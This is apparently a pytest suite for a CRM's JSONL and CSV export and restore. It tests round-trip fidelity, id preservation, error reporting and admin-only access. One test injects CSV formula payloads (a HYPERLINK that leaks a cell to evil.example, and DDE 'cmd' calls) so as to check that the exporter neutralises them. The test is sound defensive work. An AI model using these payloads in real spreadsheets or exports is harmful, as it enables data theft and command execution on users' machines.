"""Export (JSONL and CSV) and restore, on SQLite and PostgreSQL.

The promise: export -> restore into an empty database -> export gives the same bytes,
with ids kept and the database usable afterwards.
"""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from kam_bot.bootstrap import App
from kam_bot.domain import models as m
from kam_bot.domain.enums import (
    Attitude,
    CompetitorActivity,
    ContactRole,
    FunnelStage,
    GoalReached,
    Intention,
    Locale,
    Movement,
    Objective,
    Power,
    PriceKind,
    ProcurementStage,
    PromiseDirection,
    PromiseStatus,
    Role,
    StageKind,
    Tier,
)
from kam_bot.domain.matching import fold
from kam_bot.services.errors import ForbiddenError, InvalidInputError
from kam_bot.services.ports import UnitOfWork
from kam_bot.services.rates import RateService
from kam_bot.services.transfer import TYPES, export_all, import_file, restore_jsonl
from kam_bot.services.transfer.export import neutralise

SHANGHAI = ZoneInfo("Asia/Shanghai")
OPERATOR = m.User(id=0, display_name="kam-bot CLI", role=Role.ADMIN)
"""The command line's admin stand-in (``cli.OPERATOR``): a fresh database has no admin yet."""
NOTES = "女儿在复旦读书\n喜欢钓鱼\u2028周末打高尔夫"
"""Personal notes with a newline and a U+2028, which str.splitlines() would break a JSONL line at."""


def populate(app: App) -> None:
    """One record of every type, with ids that leave gaps, Chinese text, decimals and aware datetimes."""
    at = datetime(2026, 11, 20, 15, 30, tzinfo=SHANGHAI)
    with app.uow() as uow:
        add = uow.repo.add
        add(
            m.Team,
            id=5,
            name="华东大客户部",
            digest_destinations={"slack": "C0EAST"},
            timezone="Asia/Shanghai",
        )
        add(
            m.User, id=3, email="li.na@example.com", display_name="李娜", role=Role.MANAGER, team_id=5,
            timezone="Asia/Shanghai", locale=Locale.ZH_HANS, identities={"slack": "U0LINA"},
        )  # fmt: skip
        add(
            m.User, id=7, email="wang.wei@example.com", display_name="王伟", manager_id=3, team_id=5,
            reminder_time=time(7, 45), away_until=date(2026, 12, 24),
            identities={"teams": "29:wang", "slack": "U0WANG"},
        )  # fmt: skip
        add(
            m.Account, id=42, name="宝山钢铁股份有限公司", aliases=["宝钢", "Baosteel"], owner_id=7,
            team_id=5, industry="钢铁", tier=Tier.A, funnel_stage=FunnelStage.CUSTOMER,
            intention=Intention.CLEAR, power=Power.STRONG, procurement_stage=ProcurementStage.EVALUATION,
            visit_cadence_days=10, created_at=at, updated_at=at,
        )  # fmt: skip
        add(m.Account, id=43, name="Acme Trading", owner_id=7, archived=True, created_at=at, updated_at=at)
        add(
            m.Contact, id=11, account_id=42, name="张总", title="采购总监", department="采购部",
            role=ContactRole.DECISION_MAKER, attitude=Attitude.SUPPORTER, relationship_strength=4,
            last_met=date(2026, 11, 20), personal_notes=NOTES,
        )  # fmt: skip
        add(
            m.Visit, id=20, account_id=42, rep_id=7, visited_at=at, contact_ids=[11],
            objectives=[Objective.INCREASE_ORDER, Objective.BUILD_RELATIONSHIP], goal="拿到 Q1 订单",
            goal_reached=GoalReached.PARTLY, summary="谈了价格", needs="更短交期",
            competitor_intel="鞍钢降价", next_step="发报价", next_visit_date=date(2026, 12, 1), created_at=at,
        )  # fmt: skip
        add(
            m.StageChange, id=2, account_id=42, visit_id=20, kind=StageKind.PROCUREMENT,
            from_stage="criteria_set", to_stage="evaluation", changed_by=7, changed_at=at,
        )  # fmt: skip
        add(
            m.Promise, id=30, account_id=42, visit_id=20, direction=PromiseDirection.OURS, owner_id=7,
            contact_id=11, text="周五前发送报价单", due_date=date(2026, 11, 27), status=PromiseStatus.DONE,
            done_at=datetime(2026, 11, 26, 9, 5, 7, 123456, tzinfo=SHANGHAI), created_at=at,
        )  # fmt: skip
        add(m.PromiseEvent, id=31, promise_id=30, kind="created", at=at, actor_id=7)
        add(m.PromiseEvent, id=35, promise_id=30, kind="done", at=at, actor_id=3, detail="客户已确认")
        add(
            m.PriceObservation, id=50, account_id=42, product="冷轧板 SPCC", price=Decimal("4.20"),
            currency="CNY", unit="kg", kind=PriceKind.COMPETITOR, competitor="鞍钢", observed_at=at,
            visit_id=20, note="含税", recorded_by=7,
        )  # fmt: skip
        add(
            m.InventoryObservation, id=60, account_id=42, product="冷轧板 SPCC", quantity=Decimal("12.5"),
            unit="t", our_share_pct=Decimal("33.33"), movement=Movement.SLOW, observed_at=at, visit_id=20,
            recorded_by=7,
        )  # fmt: skip
        add(
            m.CompetitorNote, id=70, account_id=42, competitor="鞍钢",
            activity=CompetitorActivity.PRICE_CHANGE, text="降价 3%", observed_at=at, visit_id=20,
            recorded_by=7,
        )  # fmt: skip
        add(
            m.PriceListEntry, id=80, product="冷轧板 SPCC", price=Decimal("4.35"), currency="CNY", unit="kg",
            valid_from=date(2026, 1, 1), note="2026 年价",
        )  # fmt: skip
        add(m.ExchangeRate, id=5, from_currency="CNY", to_currency="USD", rate=Decimal("0.14"),
            updated_at=datetime(2026, 11, 2, 8, tzinfo=UTC))  # fmt: skip
        add(m.AuditEntry, id=9, at=datetime(2026, 11, 3, 8, tzinfo=UTC), actor_id=3, action="changed",
            entity="settings", entity_id=7, fields=["timezone", "locale"])  # fmt: skip
        uow.commit()


def untouched() -> UnitOfWork:
    """A database that fails the test when opened."""
    pytest.fail("the database was opened")


def export_bytes(app: App, path: Path) -> bytes:
    export_all(app, path, fmt="jsonl", actor=OPERATOR)
    return path.read_bytes()


def counts(app: App) -> dict[str, int]:
    with app.uow() as uow:
        return {kind.name: uow.repo.count(kind.model) for kind in TYPES}


def test_jsonl_export_writes_every_type_in_order_with_domain_field_names(app: App, tmp_path: Path) -> None:
    populate(app)

    lines = export_bytes(app, tmp_path / "export.jsonl").decode("utf-8").split("\n")

    records = [json.loads(line) for line in lines if line]
    assert lines[-1] == ""  # every record ends with a newline
    assert [r["type"] for r in records] == [
        "team", "user", "user", "account", "account", "contact", "visit", "stage_change", "promise",
        "promise_event", "promise_event", "price_observation", "inventory_observation", "competitor_note",
        "price_list_entry", "exchange_rate", "audit_entry",
    ]  # fmt: skip
    by_type = {r["type"]: r for r in records}
    assert [r["id"] for r in records if r["type"] == "user"] == [3, 7]
    assert by_type["user"]["identities"] == {"slack": "U0WANG", "teams": "29:wang"}
    assert by_type["team"]["digest_destinations"] == {"slack": "C0EAST"}
    assert by_type["user"]["reminder_time"] == "07:45:00" and by_type["user"]["away_until"] == "2026-12-24"
    assert records[3]["aliases"] == ["宝钢", "Baosteel"] and records[3]["name"] == "宝山钢铁股份有限公司"
    assert records[3]["created_at"] == "2026-11-20T07:30:00+00:00"
    assert by_type["contact"]["personal_notes"] == NOTES
    assert by_type["visit"]["contact_ids"] == [11]
    assert by_type["visit"]["objectives"] == ["increase_order", "build_relationship"]
    assert by_type["promise"]["done_at"] == "2026-11-26T01:05:07.123456+00:00"
    assert by_type["price_observation"]["price"] == "4.2000"
    assert by_type["inventory_observation"]["our_share_pct"] == "33.33"
    assert set(by_type["price_list_entry"]) == {"type", *m.PriceListEntry.model_fields}
    assert "宝钢" in lines[3]  # Chinese written as text, not \u escapes


def test_export_restore_export_is_byte_identical_and_keeps_ids(
    app: App, empty_app: App, tmp_path: Path
) -> None:
    populate(app)
    first = export_bytes(app, tmp_path / "first.jsonl")

    report = restore_jsonl(empty_app, io.BytesIO(first), actor=OPERATOR)

    assert report.errors == []
    assert report.rows_written == report.rows_total == 17
    second = export_bytes(empty_app, tmp_path / "second.jsonl")
    # the same bytes, and the log's new last line: the restore itself
    assert second.startswith(first)
    [restored] = [json.loads(line) for line in second[len(first) :].decode("utf-8").splitlines()]
    assert (restored["type"], restored["action"], restored["id"]) == ("audit_entry", "restored", 10)
    assert counts(empty_app) == {**counts(app), "audit_entry": 2}
    assert RateService(empty_app.uow).all() == {("CNY", "USD"): Decimal("0.14")}  # prices compare again
    with empty_app.uow() as uow:
        [entry, _] = uow.repo.all(m.AuditEntry)
    assert (entry.id, entry.actor_id, entry.entity, entry.fields) == (
        9,
        3,
        "settings",
        ["timezone", "locale"],
    )
    with empty_app.uow() as uow:
        wang = uow.repo.user_by_identity("teams", "29:wang")
        (bao,) = uow.repo.accounts_by_key(fold("Baosteel"))  # aliases are searchable again
        archived = uow.repo.get(m.Account, 43)
    assert wang is not None and (wang.id, wang.manager_id) == (7, 3)
    assert bao.id == 42
    assert archived is not None and archived.archived


def test_an_export_from_before_per_platform_destinations_restores_its_digest_channel(
    app: App, empty_app: App, tmp_path: Path
) -> None:
    populate(app)
    lines = export_bytes(app, tmp_path / "export.jsonl").decode("utf-8").split("\n")
    team = json.loads(lines[0])
    del team["digest_destinations"]
    lines[0] = json.dumps({**team, "digest_channel": "C0EAST"}, ensure_ascii=False)
    report = restore_jsonl(empty_app, io.BytesIO("\n".join(lines).encode("utf-8")), actor=OPERATOR)
    assert report.errors == [] and report.rows_written == 17
    with empty_app.uow() as uow:
        restored = uow.repo.get(m.Team, 5)
    assert restored is not None and restored.digest_destinations == {"slack": "C0EAST"}


def test_importing_an_export_restores_it_and_new_records_get_fresh_ids(
    app: App, empty_app: App, tmp_path: Path
) -> None:
    populate(app)
    export_bytes(app, tmp_path / "backup-2026-11-23.jsonl")

    report = import_file(empty_app, tmp_path / "backup-2026-11-23.jsonl", actor=OPERATOR)

    assert (report.entity, report.rows_written) == ("restore", 17)
    with empty_app.uow() as uow:
        team = uow.repo.add(m.Team, name="West")
        user = uow.repo.add(m.User, display_name="New rep", identities={"slack": "U0NEW"})
        event = uow.repo.add(m.PromiseEvent, promise_id=30, kind="reminded", at=empty_app.clock())
        uow.commit()
    assert (team.id, user.id, event.id) == (6, 8, 36)  # past the restored ids: the sequences moved on


def test_restore_refuses_a_database_that_is_not_empty(app: App, tmp_path: Path) -> None:
    populate(app)
    export_bytes(app, tmp_path / "export.jsonl")
    before = counts(app)

    with pytest.raises(InvalidInputError) as refused:
        restore_jsonl(app, tmp_path / "export.jsonl", actor=OPERATOR)

    assert refused.value.message == "transfer.restore_not_empty"
    assert refused.value.params["count"] == sum(before.values())
    assert counts(app) == before


def test_restore_reports_bad_lines_and_writes_nothing(app: App, empty_app: App, tmp_path: Path) -> None:
    populate(app)
    exported = export_bytes(app, tmp_path / "export.jsonl").decode("utf-8").split("\n")
    lines = [line for line in exported if '"type":"team"' not in line]  # users and an account lose their team
    lines[3] = lines[3].replace('"tier":"B"', '"tier":"Z"')  # the archived account, which nothing refers to
    lines.insert(5, "{not json")
    lines.insert(-1, '{"type":"meeting","id":1}')
    (tmp_path / "broken.jsonl").write_text("\n".join(lines), encoding="utf-8")

    report = restore_jsonl(empty_app, tmp_path / "broken.jsonl", actor=OPERATOR)

    assert [(e.line, e.column, e.message) for e in report.errors] == [
        (1, "team_id", "transfer.dangling_reference"),
        (2, "team_id", "transfer.dangling_reference"),
        (3, "team_id", "transfer.dangling_reference"),
        (4, "tier", "transfer.invalid_choice"),
        (6, None, "transfer.bad_json"),
        (18, "type", "transfer.unknown_type"),
    ]
    assert report.errors[0].params == {"column": "team_id", "value": 5, "target": "team"}
    assert report.rows_written == 0
    assert sum(counts(empty_app).values()) == 0


def test_csv_export_writes_one_file_per_type_that_spreadsheets_open(app: App, tmp_path: Path) -> None:
    populate(app)

    written = export_all(app, tmp_path / "out", fmt="csv", actor=OPERATOR)

    assert sorted(os.listdir(tmp_path / "out")) == sorted(f"{kind.name}.csv" for kind in TYPES)
    assert written["promise_event"] == 2
    raw = (tmp_path / "out" / "account.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == list(m.Account.model_fields)
    assert (rows[0]["id"], rows[0]["name"], rows[0]["aliases"]) == (
        "42",
        "宝山钢铁股份有限公司",
        '["宝钢","Baosteel"]',
    )
    assert (rows[1]["archived"], rows[1]["industry"]) == ("true", "")
    contact = next(csv.DictReader(io.StringIO((tmp_path / "out" / "contact.csv").read_text("utf-8-sig"))))
    assert contact["personal_notes"] == NOTES


def test_export_is_for_admins_only(tmp_path: Path) -> None:
    manager = OPERATOR.model_copy(update={"role": Role.MANAGER})

    with pytest.raises(ForbiddenError):
        export_all(untouched, tmp_path / "export.jsonl", fmt="jsonl", actor=manager)

    assert not (tmp_path / "export.jsonl").exists()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(app: App, tmp_path: Path) -> None:
    populate(app)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "title": "+1+cmd|' /C calc'!A0",
        "department": "-2+3",
        "personal_notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    with app.uow() as uow:
        uow.repo.update(m.Contact, 11, **hostile)
        uow.repo.update(m.Account, 43, industry="\t=1+1")
        uow.repo.update(m.Account, 42, industry="\r=1+1")
        uow.commit()

    export_all(app, tmp_path / "out", fmt="csv", actor=OPERATOR)

    contact = next(
        csv.DictReader(io.StringIO((tmp_path / "out" / "contact.csv").read_bytes().decode("utf-8-sig")))
    )
    assert {k: contact[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
    accounts = list(
        csv.DictReader(io.StringIO((tmp_path / "out" / "account.csv").read_bytes().decode("utf-8-sig")))
    )
    assert [a["industry"] for a in accounts] == ["'\r=1+1", "'\t=1+1"]
    stock = next(
        csv.DictReader(
            io.StringIO((tmp_path / "out" / "inventory_observation.csv").read_bytes().decode("utf-8-sig"))
        )
    )
    assert stock["quantity"] == "12.500"  # numbers stay numbers, a negative one too
    assert [neutralise(v) for v in ("-4.20", "+86", "-", "==")] == ["-4.20", "+86", "'-", "'=="]
    # the lossless JSONL keeps the text exactly as typed
    export_all(app, tmp_path / "all.jsonl", fmt="jsonl", actor=OPERATOR)
    assert json.dumps(hostile["name"], ensure_ascii=False) in (tmp_path / "all.jsonl").read_text("utf-8")
